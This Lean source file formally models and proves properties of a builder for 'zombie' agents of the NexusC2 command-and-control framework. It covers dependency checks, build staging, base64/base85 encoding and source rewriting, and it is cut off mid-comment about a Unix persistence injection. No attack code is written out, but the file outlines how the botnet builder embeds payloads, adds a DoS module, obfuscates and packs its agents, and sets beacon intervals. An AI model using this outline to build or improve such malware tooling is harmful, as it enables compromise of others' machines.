import Mathlib

/-!
Verification of the NexusC2 build orchestrator (`build.py`) against its
natural-language specification.

The development shallowly embeds the builder: text and file contents are byte
lists (`List Nat`, each entry a byte), the file system is an association list
of paths to contents plus a list of existing directories, and the external
world (interpreter version, availability of the external tools, outcome of
subprocess invocations, unexpected I/O errors that the source catches) is an
oracle record threaded through the stage functions. Each stage method of the
`ZombieBuilder` class is translated to a Lean function of the same name.
-/

namespace ZombieBuild

set_option maxHeartbeats 1000000

/-! ## Byte-list utilities

Python string operations used by the builder, modelled on `List Nat`
(byte values). `strBytes` converts a Lean string literal to its byte list;
every literal used below is ASCII, so `Char.toNat` is the byte value.
-/

/-- Bytes of a (ASCII) string literal. -/
def strBytes (s : String) : List Nat := s.data.map Char.toNat

/-- Tests whether `pat` occurs at the head of `s` (list prefix test). -/
def leadsWith : List Nat → List Nat → Bool
  | [], _ => true
  | _ :: _, [] => false
  | a :: ps, b :: bs => a == b && leadsWith ps bs

/-- List prefix test for an arbitrary type with boolean equality. -/
def listLeads {α : Type} [BEq α] : List α → List α → Bool
  | [], _ => true
  | _ :: _, [] => false
  | a :: ps, b :: bs => a == b && listLeads ps bs

/-- Tests whether `pat` occurs as a contiguous sublist of `s`
(the Python `pat in s` substring test). -/
def hasSub (pat : List Nat) : List Nat → Bool
  | [] => pat.isEmpty
  | a :: rest => leadsWith pat (a :: rest) || hasSub pat rest

/-- Replaces every non-overlapping occurrence of the non-empty pattern `pat`
by `repl`, scanning left to right: the semantics of `re.sub` with a pattern
that matches one literal string. -/
def subAllAux (pat repl : List Nat) : List Nat → List Nat
  | [] => []
  | a :: rest =>
    if leadsWith pat (a :: rest) then
      repl ++ subAllAux pat repl (rest.drop (pat.length - 1))
    else
      a :: subAllAux pat repl rest
termination_by s => s.length
decreasing_by
  · simp only [List.length_drop, List.length_cons]
    omega
  · simp only [List.length_cons]
    omega

/-- Replacement of every occurrence of a literal pattern, with the degenerate
empty pattern left as the identity (the builder never uses an empty pattern). -/
def subAll (pat repl s : List Nat) : List Nat :=
  if pat.isEmpty then s else subAllAux pat repl s

theorem leadsWith_nil (pat : List Nat) (h : leadsWith pat [] = true) : pat = [] := by
  cases pat with
  | nil => rfl
  | cons a ps => simp [leadsWith] at h

theorem subAllAux_of_no_match (pat repl : List Nat) :
    ∀ s : List Nat, hasSub pat s = false → subAllAux pat repl s = s := by
  intro s
  induction s with
  | nil => intro _; simp [subAllAux]
  | cons a rest ih =>
    intro h
    simp only [hasSub, Bool.or_eq_false_iff] at h
    simp only [subAllAux, h.1, Bool.false_eq_true, if_false]
    rw [ih h.2]

theorem subAll_of_no_match (pat repl s : List Nat) (h : hasSub pat s = false) :
    subAll pat repl s = s := by
  unfold subAll
  by_cases hp : pat.isEmpty
  · simp [hp]
  · simp only [hp, if_false]
    exact subAllAux_of_no_match pat repl s h

/-- First-match association-list lookup (the in-memory file system). -/
def assocGet {α : Type} : List (String × α) → String → Option α
  | [], _ => none
  | (k, v) :: r, p => if k = p then some v else assocGet r p

/-! ## Base64 (`base64.b64encode` / `base64.b64decode`)

The dependency verifier stores the payload file as `base64.b64encode(data)`.
Standard base64: groups of 3 bytes become 4 alphabet characters; a final group
of 1 or 2 bytes is encoded with zero fill bits and padded with `=` (byte 61).
-/

/-- Byte values of the standard base64 alphabet. -/
def b64alphabet : List Nat :=
  strBytes "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"

/-- Alphabet character for a 6-bit digit. -/
def b64char (d : Nat) : Nat := b64alphabet.getD d 0

/-- Index of a character in an alphabet (inverse of the alphabet table). -/
def idxIn (c : Nat) : List Nat → Nat
  | [] => 0
  | a :: rest => if a = c then 0 else idxIn c rest + 1

/-- Digit value of a base64 alphabet character. -/
def b64digit (c : Nat) : Nat := idxIn c b64alphabet

/-- Base64 encoding of a byte list. -/
def b64encode : List Nat → List Nat
  | [] => []
  | [b0] => [b64char (b0 / 4), b64char (b0 % 4 * 16), 61, 61]
  | [b0, b1] => [b64char (b0 / 4), b64char (b0 % 4 * 16 + b1 / 16), b64char (b1 % 16 * 4), 61]
  | b0 :: b1 :: b2 :: rest =>
    b64char ((b0 * 65536 + b1 * 256 + b2) / 262144) ::
    b64char ((b0 * 65536 + b1 * 256 + b2) / 4096 % 64) ::
    b64char ((b0 * 65536 + b1 * 256 + b2) / 64 % 64) ::
    b64char ((b0 * 65536 + b1 * 256 + b2) % 64) :: b64encode rest

/-- Base64 decoding: 4 characters yield 3 bytes, with `=` padding at the end
reducing the final group to 1 or 2 bytes. -/
def b64decode : List Nat → List Nat
  | c0 :: c1 :: c2 :: c3 :: rest =>
    if c2 = 61 then [b64digit c0 * 4 + b64digit c1 / 16]
    else if c3 = 61 then
      [b64digit c0 * 4 + b64digit c1 / 16, b64digit c1 % 16 * 16 + b64digit c2 / 4]
    else
      (b64digit c0 * 262144 + b64digit c1 * 4096 + b64digit c2 * 64 + b64digit c3) / 65536 % 256 ::
      (b64digit c0 * 262144 + b64digit c1 * 4096 + b64digit c2 * 64 + b64digit c3) / 256 % 256 ::
      (b64digit c0 * 262144 + b64digit c1 * 4096 + b64digit c2 * 64 + b64digit c3) % 256 ::
      b64decode rest
  | _ => []

theorem b64digit_b64char : ∀ d : Nat, d < 64 → b64digit (b64char d) = d := by decide

theorem b64char_ne_pad : ∀ d : Nat, d < 64 → b64char d ≠ 61 := by decide

theorem b64decode_chunk (v : Nat) (hv : v < 16777216) (tail : List Nat) :
    b64decode (b64char (v / 262144) :: b64char (v / 4096 % 64) ::
               b64char (v / 64 % 64) :: b64char (v % 64) :: tail) =
      v / 65536 % 256 :: v / 256 % 256 :: v % 256 :: b64decode tail := by
  simp only [b64decode]
  rw [if_neg (b64char_ne_pad (v / 64 % 64) (by omega)),
      if_neg (b64char_ne_pad (v % 64) (by omega))]
  rw [b64digit_b64char (v / 262144) (by omega), b64digit_b64char (v / 4096 % 64) (by omega),
      b64digit_b64char (v / 64 % 64) (by omega), b64digit_b64char (v % 64) (by omega)]
  have hD : v / 262144 * 262144 + v / 4096 % 64 * 4096 + v / 64 % 64 * 64 + v % 64 = v := by
    omega
  rw [hD]

/-- Base64 round trip: decoding the encoding of any byte list returns it. -/
theorem b64decode_b64encode :
    ∀ bs : List Nat, (∀ x ∈ bs, x < 256) → b64decode (b64encode bs) = bs := by
  intro bs
  match bs with
  | [] => intro _; rfl
  | [b0] =>
    intro h
    have hb0 : b0 < 256 := h b0 (by simp)
    simp only [b64encode, b64decode, if_pos]
    rw [b64digit_b64char (b0 / 4) (by omega), b64digit_b64char (b0 % 4 * 16) (by omega)]
    simp only [List.cons.injEq, and_true]
    omega
  | [b0, b1] =>
    intro h
    have hb0 : b0 < 256 := h b0 (by simp)
    have hb1 : b1 < 256 := h b1 (by simp)
    simp only [b64encode, b64decode]
    rw [if_neg (b64char_ne_pad (b1 % 16 * 4) (by omega)), if_pos trivial]
    rw [b64digit_b64char (b0 / 4) (by omega), b64digit_b64char (b0 % 4 * 16 + b1 / 16) (by omega),
        b64digit_b64char (b1 % 16 * 4) (by omega)]
    simp only [List.cons.injEq, and_true]
    omega
  | b0 :: b1 :: b2 :: rest =>
    intro h
    have hb0 : b0 < 256 := h b0 (by simp)
    have hb1 : b1 < 256 := h b1 (by simp)
    have hb2 : b2 < 256 := h b2 (by simp)
    have ih := b64decode_b64encode rest (fun x hx => h x (by simp [hx]))
    simp only [b64encode]
    rw [b64decode_chunk (b0 * 65536 + b1 * 256 + b2) (by omega) (b64encode rest), ih]
    simp only [List.cons.injEq, and_true]
    omega
termination_by bs => bs.length

/-! ## Base85 (`base64.b85encode` / `base64.b85decode`)

The manual obfuscation fallback embeds `base64.b85encode(zlib.compress(...))`.
Python groups 4 bytes into a 32-bit big-endian value written as 5 digits in
base 85; a final short group is zero-padded to 4 bytes and the surplus output
characters are dropped. Decoding pads a short final group with `~` (digit 84)
and drops the surplus bytes.
-/

/-- Byte values of the RFC-1924-style base85 alphabet used by `base64.b85encode`. -/
def b85alphabet : List Nat :=
  strBytes "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`\x7b|\x7d~"

/-- Alphabet character for a base85 digit. -/
def b85char (d : Nat) : Nat := b85alphabet.getD d 0

/-- Digit value of a base85 alphabet character. -/
def b85digit (c : Nat) : Nat := idxIn c b85alphabet

/-- The five base85 digits of a 32-bit value, most significant first. -/
def enc5 (v : Nat) : List Nat :=
  [b85char (v / 52200625), b85char (v / 614125 % 85), b85char (v / 7225 % 85),
   b85char (v / 85 % 85), b85char (v % 85)]

/-- Base85 encoding of a byte list. -/
def b85encode : List Nat → List Nat
  | [] => []
  | [b0] => (enc5 (b0 * 16777216)).take 2
  | [b0, b1] => (enc5 (b0 * 16777216 + b1 * 65536)).take 3
  | [b0, b1, b2] => (enc5 (b0 * 16777216 + b1 * 65536 + b2 * 256)).take 4
  | b0 :: b1 :: b2 :: b3 :: rest =>
    enc5 (b0 * 16777216 + b1 * 65536 + b2 * 256 + b3) ++ b85encode rest

/-- Value of five base85 characters. -/
def dec5 (c0 c1 c2 c3 c4 : Nat) : Nat :=
  b85digit c0 * 52200625 + b85digit c1 * 614125 + b85digit c2 * 7225 +
    b85digit c3 * 85 + b85digit c4

/-- The four big-endian bytes of a 32-bit value. -/
def val4 (v : Nat) : List Nat := [v / 16777216 % 256, v / 65536 % 256, v / 256 % 256, v % 256]

/-- Base85 decoding (on well-formed input; a lone trailing character cannot
arise from `b85encode` and decodes to nothing). -/
def b85decode : List Nat → List Nat
  | [] => []
  | [_] => []
  | [c0, c1] => (val4 (dec5 c0 c1 126 126 126)).take 1
  | [c0, c1, c2] => (val4 (dec5 c0 c1 c2 126 126)).take 2
  | [c0, c1, c2, c3] => (val4 (dec5 c0 c1 c2 c3 126)).take 3
  | c0 :: c1 :: c2 :: c3 :: c4 :: rest => val4 (dec5 c0 c1 c2 c3 c4) ++ b85decode rest

theorem b85digit_b85char : ∀ d : Nat, d < 85 → b85digit (b85char d) = d := by decide

theorem b85digit_tilde : b85digit 126 = 84 := by decide

theorem b85decode_chunk (v : Nat) (hv : v < 4294967296) (tail : List Nat) :
    b85decode (b85char (v / 52200625) :: b85char (v / 614125 % 85) :: b85char (v / 7225 % 85) ::
               b85char (v / 85 % 85) :: b85char (v % 85) :: tail) =
      v / 16777216 % 256 :: v / 65536 % 256 :: v / 256 % 256 :: v % 256 :: b85decode tail := by
  simp only [b85decode, dec5, val4]
  rw [b85digit_b85char (v / 52200625) (by omega), b85digit_b85char (v / 614125 % 85) (by omega),
      b85digit_b85char (v / 7225 % 85) (by omega), b85digit_b85char (v / 85 % 85) (by omega),
      b85digit_b85char (v % 85) (by omega)]
  have hD : v / 52200625 * 52200625 + v / 614125 % 85 * 614125 + v / 7225 % 85 * 7225 +
      v / 85 % 85 * 85 + v % 85 = v := by omega
  rw [hD]
  simp

/-- Base85 round trip: decoding the encoding of any byte list returns it. -/
theorem b85decode_b85encode :
    ∀ bs : List Nat, (∀ x ∈ bs, x < 256) → b85decode (b85encode bs) = bs := by
  intro bs
  match bs with
  | [] => intro _; rfl
  | [b0] =>
    intro h
    have hb0 : b0 < 256 := h b0 (by simp)
    simp only [b85encode, enc5, List.take, b85decode, dec5, val4]
    rw [b85digit_b85char (b0 * 16777216 / 52200625) (by omega),
        b85digit_b85char (b0 * 16777216 / 614125 % 85) (by omega), b85digit_tilde]
    simp only [List.take, List.cons.injEq, and_true]
    have hA : b0 * 16777216 / 614125 / 85 = b0 * 16777216 / 52200625 := by
      rw [Nat.div_div_eq_div_mul]
    have h1 : b0 * 16777216 / 52200625 * 52200625 + b0 * 16777216 / 614125 % 85 * 614125 =
        b0 * 16777216 - b0 * 16777216 % 614125 := by
      rw [← hA]
      omega
    have h2 : (b0 * 16777216 / 52200625 * 52200625 + b0 * 16777216 / 614125 % 85 * 614125 +
        84 * 7225 + 84 * 85 + 84) / 16777216 = b0 :=
      Nat.div_eq_of_lt_le (by omega) (by omega)
    omega
  | [b0, b1] =>
    intro h
    have hb0 : b0 < 256 := h b0 (by simp)
    have hb1 : b1 < 256 := h b1 (by simp)
    simp only [b85encode, enc5, List.take, b85decode, dec5, val4]
    rw [b85digit_b85char ((b0 * 16777216 + b1 * 65536) / 52200625) (by omega),
        b85digit_b85char ((b0 * 16777216 + b1 * 65536) / 614125 % 85) (by omega),
        b85digit_b85char ((b0 * 16777216 + b1 * 65536) / 7225 % 85) (by omega), b85digit_tilde]
    simp only [List.take, List.cons.injEq, and_true]
    have hA : (b0 * 16777216 + b1 * 65536) / 614125 / 85 =
        (b0 * 16777216 + b1 * 65536) / 52200625 := by
      rw [Nat.div_div_eq_div_mul]
    have hB : (b0 * 16777216 + b1 * 65536) / 7225 / 85 =
        (b0 * 16777216 + b1 * 65536) / 614125 := by
      rw [Nat.div_div_eq_div_mul]
    have h1 : (b0 * 16777216 + b1 * 65536) / 52200625 * 52200625 +
        (b0 * 16777216 + b1 * 65536) / 614125 % 85 * 614125 +
        (b0 * 16777216 + b1 * 65536) / 7225 % 85 * 7225 =
        (b0 * 16777216 + b1 * 65536) - (b0 * 16777216 + b1 * 65536) % 7225 := by
      rw [← hA, ← hB]
      omega
    have h2 : ((b0 * 16777216 + b1 * 65536) / 52200625 * 52200625 +
        (b0 * 16777216 + b1 * 65536) / 614125 % 85 * 614125 +
        (b0 * 16777216 + b1 * 65536) / 7225 % 85 * 7225 +
        84 * 85 + 84) / 16777216 = b0 :=
      Nat.div_eq_of_lt_le (by omega) (by omega)
    have h3 : ((b0 * 16777216 + b1 * 65536) / 52200625 * 52200625 +
        (b0 * 16777216 + b1 * 65536) / 614125 % 85 * 614125 +
        (b0 * 16777216 + b1 * 65536) / 7225 % 85 * 7225 +
        84 * 85 + 84) / 65536 = b0 * 256 + b1 :=
      Nat.div_eq_of_lt_le (by omega) (by omega)
    omega
  | [b0, b1, b2] =>
    intro h
    have hb0 : b0 < 256 := h b0 (by simp)
    have hb1 : b1 < 256 := h b1 (by simp)
    have hb2 : b2 < 256 := h b2 (by simp)
    simp only [b85encode, enc5, List.take, b85decode, dec5, val4]
    rw [b85digit_b85char ((b0 * 16777216 + b1 * 65536 + b2 * 256) / 52200625) (by omega),
        b85digit_b85char ((b0 * 16777216 + b1 * 65536 + b2 * 256) / 614125 % 85) (by omega),
        b85digit_b85char ((b0 * 16777216 + b1 * 65536 + b2 * 256) / 7225 % 85) (by omega),
        b85digit_b85char ((b0 * 16777216 + b1 * 65536 + b2 * 256) / 85 % 85) (by omega),
        b85digit_tilde]
    simp only [List.take, List.cons.injEq, and_true]
    have hA : (b0 * 16777216 + b1 * 65536 + b2 * 256) / 614125 / 85 =
        (b0 * 16777216 + b1 * 65536 + b2 * 256) / 52200625 := by
      rw [Nat.div_div_eq_div_mul]
    have hB : (b0 * 16777216 + b1 * 65536 + b2 * 256) / 7225 / 85 =
        (b0 * 16777216 + b1 * 65536 + b2 * 256) / 614125 := by
      rw [Nat.div_div_eq_div_mul]
    have hC : (b0 * 16777216 + b1 * 65536 + b2 * 256) / 85 / 85 =
        (b0 * 16777216 + b1 * 65536 + b2 * 256) / 7225 := by
      rw [Nat.div_div_eq_div_mul]
    have h1 : (b0 * 16777216 + b1 * 65536 + b2 * 256) / 52200625 * 52200625 +
        (b0 * 16777216 + b1 * 65536 + b2 * 256) / 614125 % 85 * 614125 +
        (b0 * 16777216 + b1 * 65536 + b2 * 256) / 7225 % 85 * 7225 +
        (b0 * 16777216 + b1 * 65536 + b2 * 256) / 85 % 85 * 85 =
        (b0 * 16777216 + b1 * 65536 + b2 * 256) -
          (b0 * 16777216 + b1 * 65536 + b2 * 256) % 85 := by
      rw [← hA, ← hB, ← hC]
      omega
    have h2 : ((b0 * 16777216 + b1 * 65536 + b2 * 256) / 52200625 * 52200625 +
        (b0 * 16777216 + b1 * 65536 + b2 * 256) / 614125 % 85 * 614125 +
        (b0 * 16777216 + b1 * 65536 + b2 * 256) / 7225 % 85 * 7225 +
        (b0 * 16777216 + b1 * 65536 + b2 * 256) / 85 % 85 * 85 + 84) / 16777216 = b0 :=
      Nat.div_eq_of_lt_le (by omega) (by omega)
    have h3 : ((b0 * 16777216 + b1 * 65536 + b2 * 256) / 52200625 * 52200625 +
        (b0 * 16777216 + b1 * 65536 + b2 * 256) / 614125 % 85 * 614125 +
        (b0 * 16777216 + b1 * 65536 + b2 * 256) / 7225 % 85 * 7225 +
        (b0 * 16777216 + b1 * 65536 + b2 * 256) / 85 % 85 * 85 + 84) / 65536 =
        b0 * 256 + b1 :=
      Nat.div_eq_of_lt_le (by omega) (by omega)
    have h4 : ((b0 * 16777216 + b1 * 65536 + b2 * 256) / 52200625 * 52200625 +
        (b0 * 16777216 + b1 * 65536 + b2 * 256) / 614125 % 85 * 614125 +
        (b0 * 16777216 + b1 * 65536 + b2 * 256) / 7225 % 85 * 7225 +
        (b0 * 16777216 + b1 * 65536 + b2 * 256) / 85 % 85 * 85 + 84) / 256 =
        b0 * 65536 + b1 * 256 + b2 :=
      Nat.div_eq_of_lt_le (by omega) (by omega)
    omega
  | b0 :: b1 :: b2 :: b3 :: rest =>
    intro h
    have hb0 : b0 < 256 := h b0 (by simp)
    have hb1 : b1 < 256 := h b1 (by simp)
    have hb2 : b2 < 256 := h b2 (by simp)
    have hb3 : b3 < 256 := h b3 (by simp)
    have ih := b85decode_b85encode rest (fun x hx => h x (by simp [hx]))
    simp only [b85encode, enc5]
    rw [show (b85char ((b0 * 16777216 + b1 * 65536 + b2 * 256 + b3) / 52200625) ::
          b85char ((b0 * 16777216 + b1 * 65536 + b2 * 256 + b3) / 614125 % 85) ::
          b85char ((b0 * 16777216 + b1 * 65536 + b2 * 256 + b3) / 7225 % 85) ::
          b85char ((b0 * 16777216 + b1 * 65536 + b2 * 256 + b3) / 85 % 85) ::
          b85char ((b0 * 16777216 + b1 * 65536 + b2 * 256 + b3) % 85) :: []) ++ b85encode rest =
        b85char ((b0 * 16777216 + b1 * 65536 + b2 * 256 + b3) / 52200625) ::
          b85char ((b0 * 16777216 + b1 * 65536 + b2 * 256 + b3) / 614125 % 85) ::
          b85char ((b0 * 16777216 + b1 * 65536 + b2 * 256 + b3) / 7225 % 85) ::
          b85char ((b0 * 16777216 + b1 * 65536 + b2 * 256 + b3) / 85 % 85) ::
          b85char ((b0 * 16777216 + b1 * 65536 + b2 * 256 + b3) % 85) :: b85encode rest from rfl]
    rw [b85decode_chunk (b0 * 16777216 + b1 * 65536 + b2 * 256 + b3) (by omega) (b85encode rest),
        ih]
    simp only [List.cons.injEq, and_true]
    omega
termination_by bs => bs.length

/-! ## String and path helpers -/

/-- Substring test on strings. -/
def strHasSub (pat s : String) : Bool := hasSub (strBytes pat) (strBytes s)

/-- String prefix test via the byte lists. -/
def strLeads (pre s : String) : Bool := leadsWith (strBytes pre) (strBytes s)

/-- String suffix test via reversed byte lists. -/
def strEnds (suf s : String) : Bool := leadsWith (strBytes suf).reverse (strBytes s).reverse

/-- The characters of the final component of a slash-separated path. -/
def lastComponent (l : List Nat) : List Nat :=
  (l.reverse.takeWhile (fun c => c != 47)).reverse

/-- Decoding of an ASCII byte list back to a string. -/
def bytesStr (l : List Nat) : String := ⟨l.map Char.ofNat⟩

/-- Final component of a slash-separated path (`os.path.basename`). -/
def baseName (p : String) : String := bytesStr (lastComponent (strBytes p))

/-- Tests whether `p` names an entry directly inside directory `d`. -/
def inDir (d p : String) : Bool :=
  strLeads (d ++ "/") p && (p.drop (d.length + 1)).data.all (fun c => c != '/')

/-- Rendering of a Python bool by `str(...).lower()`. -/
def pyBool (x : Bool) : String := if x then "true" else "false"

/-- Rendering of `repr` on a plain path string. -/
def pyRepr (s : String) : String := "\x27" ++ s ++ "\x27"

/-! ## Data model

`Builder` is the immutable per-invocation configuration and identity held by
`ZombieBuilder.__init__` (`platform` is the already-resolved target).

`St` is the mutable world: directories and files that exist, the JSON
documents written, plus the two attributes the stages mutate
(`payload_data`, `use_upx`).

`Ext` is the oracle for everything outside the program: interpreter and host
identification, availability of tools and input files, contents of input
files, the outcome of each subprocess invocation, and the caught unexpected
errors whose reachable handlers the claims are about.
-/

/-- Name of the agent source input (`SOURCE_FILE`). -/
def SOURCE_FILE : String := "zombie.py"

/-- Name of the companion module input (`DOS_MODULE_FILE`). -/
def DOS_MODULE_FILE : String := "dos_module.py"

/-- Name of the build root directory (`BUILD_DIR`). -/
def BUILD_DIR : String := "build"

/-- JSON-like values for the metadata record. -/
inductive JVal where
  | s (v : String)
  | n (v : Nat)
  | i (v : Int)
  | obj (kvs : List (String × JVal))

/-- Resolved configuration and identity of one builder instance. -/
structure Builder where
  platform : String
  server_url : String
  obfuscation_level : String
  icon_path : Option String
  payload_path : Option String
  payload_delay : Int
  payload_technique : String
  use_upx : Bool
  debug : Bool
  output_dir : String
  build_id : String
  build_timestamp : String
  base_dir : String

/-- File-system and builder-attribute state threaded through the stages. -/
structure St where
  dirs : List String
  files : List (String × List Nat)
  jsonFiles : List (String × List (String × JVal))
  payload_data : Option (List Nat)
  use_upx : Bool

/-- Writes (or overwrites) a file. -/
def putFile (st : St) (p : String) (c : List Nat) : St :=
  { st with files := (p, c) :: st.files.filter (fun f => f.1 ≠ p) }

/-- Reads a file, `none` when it does not exist. -/
def getFile (st : St) (p : String) : Option (List Nat) := assocGet st.files p

/-- Creates a directory (`os.makedirs` with `exist_ok=True`). -/
def addDir (st : St) (d : String) : St := { st with dirs := d :: st.dirs }

/-- Writes a JSON document. -/
def putJson (st : St) (p : String) (v : List (String × JVal)) : St :=
  { st with jsonFiles := (p, v) :: st.jsonFiles.filter (fun f => f.1 ≠ p) }

/-- Removes a directory tree (`shutil.rmtree`): the root directory, every
directory below it, and every file below it. -/
def removeTree (st : St) (root : String) : St :=
  { st with
    dirs := st.dirs.filter (fun d => !(d == root || strLeads (root ++ "/") d)),
    files := st.files.filter (fun f => !(strLeads (root ++ "/") f.1)) }

/-- Outcome of the PyArmor invocation inside `_try_pyarmor_obfuscation`:
success, non-zero exit (`CalledProcessError`), missing `dist` directory,
missing expected output file, or any other raised error. -/
inductive PyarmorOutcome where
  | ok
  | calledProcessError
  | missingDist
  | missingOutput
  | raised
deriving DecidableEq

/-- Model of the external `zlib` library used by the manual obfuscation
fallback: a compression function together with its inverse. The library
guarantees that decompression inverts compression on byte data and that
compressed output is byte data. -/
structure Zlib where
  comp : List Nat → List Nat
  decomp : List Nat → List Nat
  round : ∀ bs : List Nat, (∀ x ∈ bs, x < 256) → decomp (comp bs) = bs
  byteRange : ∀ bs : List Nat, (∀ x ∈ bs, x < 256) → ∀ x ∈ comp bs, x < 256

/-- The identity instance of the `zlib` interface (compression level 0
behaviour), used to evaluate the model on concrete inputs. -/
def zlibId : Zlib := ⟨id, id, fun _ _ => rfl, fun _ h => h⟩

/-- Oracle for the external world. -/
structure Ext where
  python_version : Nat × Nat × Nat
  python_version_string : String
  system_string : String
  release_string : String
  machine_string : String
  pyarmor_ok : Bool
  pyinstaller_ok : Bool
  upx_ok : Bool
  source_exists : Bool
  dos_exists : Bool
  icon_exists : Bool
  payload_exists : Bool
  payload_read_ok : Bool
  payload_bytes : List Nat
  source_bytes : List Nat
  dos_bytes : List Nat
  prep_err : Bool
  fresh_zombie_id : String
  pyarmor_outcome : PyarmorOutcome
  pyarmor_obf_bytes : List Nat
  pyarmor_extra_files : List (String × List Nat)
  iso_timestamp : String
  zlib : Zlib
  pyinstaller_run_ok : Bool
  exe_produced : Bool
  exe_bytes : List Nat
  meta_err : Bool
  cleanup_err : Bool

/-! ## Derived paths (`ZombieBuilder.__init__`) -/

/-- Resolution of the requested platform (`_determine_platform`). -/
def determine_platform (requested : String) (system : String) : String :=
  if (requested != "") && (requested != "current") then requested
  else if strHasSub "windows" system then "windows"
  else if strHasSub "darwin" system then "macos"
  else if strHasSub "linux" system then "linux"
  else "linux"

/-- Platform file extension (`_get_file_extension`). -/
def get_file_extension (b : Builder) : String :=
  if b.platform = "windows" then ".exe"
  else if b.platform = "macos" then ".app"
  else ""

/-- The build root directory `<base>/build`. -/
def build_dir (b : Builder) : String := b.base_dir ++ "/" ++ BUILD_DIR

/-- The preparation staging directory. -/
def prep_dir (b : Builder) : String := build_dir b ++ "/prep"

/-- The obfuscation staging directory. -/
def obfuscate_dir (b : Builder) : String := build_dir b ++ "/obfuscate"

/-- The compilation staging directory. -/
def compile_dir (b : Builder) : String := build_dir b ++ "/compile"

/-- The customized agent source file, named after the build identifier. -/
def modified_source (b : Builder) : String := prep_dir b ++ "/" ++ b.build_id ++ ".py"

/-- The generated payload module path. -/
def payload_module (b : Builder) : String := prep_dir b ++ "/payload_module.py"

/-- The expected obfuscated source file. -/
def obfuscated_file (b : Builder) : String :=
  obfuscate_dir b ++ "/" ++ b.build_id ++ "_obfuscated.py"

/-- The final executable path in the output directory. -/
def final_executable (b : Builder) : String :=
  b.output_dir ++ "/zombie_" ++ b.platform ++ "_" ++ b.build_timestamp ++ get_file_extension b

/-- The PyArmor working directory. -/
def pyarmor_work_dir (b : Builder) : String := build_dir b ++ "/pyarmor_work"

/-! ## Dependency verifier (`_check_dependencies`) -/

/-- The individual checks of the dependency verifier, in source order. -/
inductive DepCheck where
  | pythonVer
  | pyarmorTool
  | pyinstallerTool
  | upxTool
  | sourceFile
  | dosModuleFile
  | iconFile
  | payloadFile
deriving DecidableEq

/-- Result of the dependency verifier: the returned boolean, the updated
state (`payload_data`, possibly disabled `use_upx`), the list of checks that
were actually performed before returning, and whether an error-level message
was logged. -/
structure DepResult where
  ok : Bool
  st : St
  performed : List DepCheck
  errorLogged : Bool

/-- Lexicographic version comparison (`tuple(...) < (3, 6, 0)`). -/
def pyVerLt (v w : Nat × Nat × Nat) : Bool :=
  if v.1 < w.1 then true
  else if v.1 = w.1 then
    (if v.2.1 < w.2.1 then true
     else if v.2.1 = w.2.1 then (if v.2.2 < w.2.2 then true else false)
     else false)
  else false

/-- The dependency verifier. Each failing check logs an error and returns
`False` at once; the optional UPX check only logs a warning and clears the
`use_upx` flag; a valid payload file is read and stored base64-encoded. -/
def check_dependencies (b : Builder) (e : Ext) (st : St) : DepResult :=
  if pyVerLt e.python_version (3, 6, 0) then
    ⟨false, st, [.pythonVer], true⟩
  else if !e.pyarmor_ok then
    ⟨false, st, [.pythonVer, .pyarmorTool], true⟩
  else if !e.pyinstaller_ok then
    ⟨false, st, [.pythonVer, .pyarmorTool, .pyinstallerTool], true⟩
  else
    let st1 := if st.use_upx && !e.upx_ok then { st with use_upx := false } else st
    let per := [DepCheck.pythonVer, DepCheck.pyarmorTool, DepCheck.pyinstallerTool] ++
      (if st.use_upx then [DepCheck.upxTool] else [])
    if !e.source_exists then
      ⟨false, st1, per ++ [.sourceFile], true⟩
    else if !e.dos_exists then
      ⟨false, st1, per ++ [.sourceFile, .dosModuleFile], true⟩
    else if b.icon_path.isSome && !e.icon_exists then
      ⟨false, st1, per ++ [.sourceFile, .dosModuleFile, .iconFile], true⟩
    else
      let per2 := per ++ [DepCheck.sourceFile, DepCheck.dosModuleFile] ++
        (if b.icon_path.isSome then [DepCheck.iconFile] else [])
      if b.payload_path.isSome then
        if !e.payload_exists then
          ⟨false, st1, per2 ++ [.payloadFile], true⟩
        else if b.platform ≠ "windows" then
          ⟨false, st1, per2 ++ [.payloadFile], true⟩
        else if !e.payload_read_ok then
          ⟨false, st1, per2 ++ [.payloadFile], true⟩
        else
          ⟨true, { st1 with payload_data := some (b64encode e.payload_bytes) },
            per2 ++ [.payloadFile], false⟩
      else
        ⟨true, st1, per2, false⟩

/-! ## Environment stager (`_prepare_build_environment`, `_create_payload_module`) -/

/-- The payload module generator. `open(path, "w")` succeeds first, creating
the payload module file empty; the generating f-string passed to `write`
interpolates the names `ps_payload`, `task_name` and `batch_path`, which are
not defined in the scope of `_create_payload_module` (only the doubled-brace
occurrences were escaped), so evaluating it raises `NameError` inside the
`with` block; the handler logs the error and returns `False`, leaving the
payload module file behind with empty contents. -/
def create_payload_module (b : Builder) (st : St) : Bool × St :=
  (false, putFile st (payload_module b) [])

/-- The environment stager: creates the build tree and the output directory,
copies the two pristine inputs into the preparation directory, and, when a
payload bundle exists on a windows build, invokes the payload module
generator, ignoring its return value (as the source does). -/
def prepare_build_environment (b : Builder) (e : Ext) (st : St) : Bool × St :=
  if e.prep_err then (false, st)
  else
    let st := addDir (addDir (addDir (addDir (addDir st (build_dir b)) (prep_dir b))
      (obfuscate_dir b)) (compile_dir b)) b.output_dir
    let st := putFile st (prep_dir b ++ "/" ++ SOURCE_FILE) e.source_bytes
    let st := putFile st (prep_dir b ++ "/" ++ DOS_MODULE_FILE) e.dos_bytes
    let st := if st.payload_data.isSome && (b.platform == "windows") then
        (create_payload_module b st).2
      else st
    (true, st)

/-! ## Source customizer (`_modify_source_code`) -/

/-- Literal pattern of the default server address assignment. -/
def serverPattern : List Nat := strBytes "SERVER_URL = \"http://127.0.0.1:5000\""

/-- Literal pattern of the dynamic agent identifier expression. -/
def zombieIdPattern : List Nat :=
  strBytes "ZOMBIE_ID = f\"zombie_\x7buuid.uuid4().hex[:8]\x7d\""

/-- Literal pattern of the check-in interval constant. -/
def checkInPattern : List Nat := strBytes "CHECK_IN_INTERVAL = 300"

/-- Literal pattern of the poll interval constant. -/
def pollPattern : List Nat := strBytes "COMMAND_POLL_INTERVAL = 30"

/-- Literal pattern of the main entry marker. -/
def mainPattern : List Nat := strBytes "def main():"

/-- Check-in and poll interval pair selected by obfuscation level. -/
def interval_pair (level : String) : Nat × Nat :=
  if level = "basic" then (300, 30)
  else if level = "advanced" then (1800, 120)
  else (600, 60)

/-- The Unix persistence injection: replacement text for the `def main():`
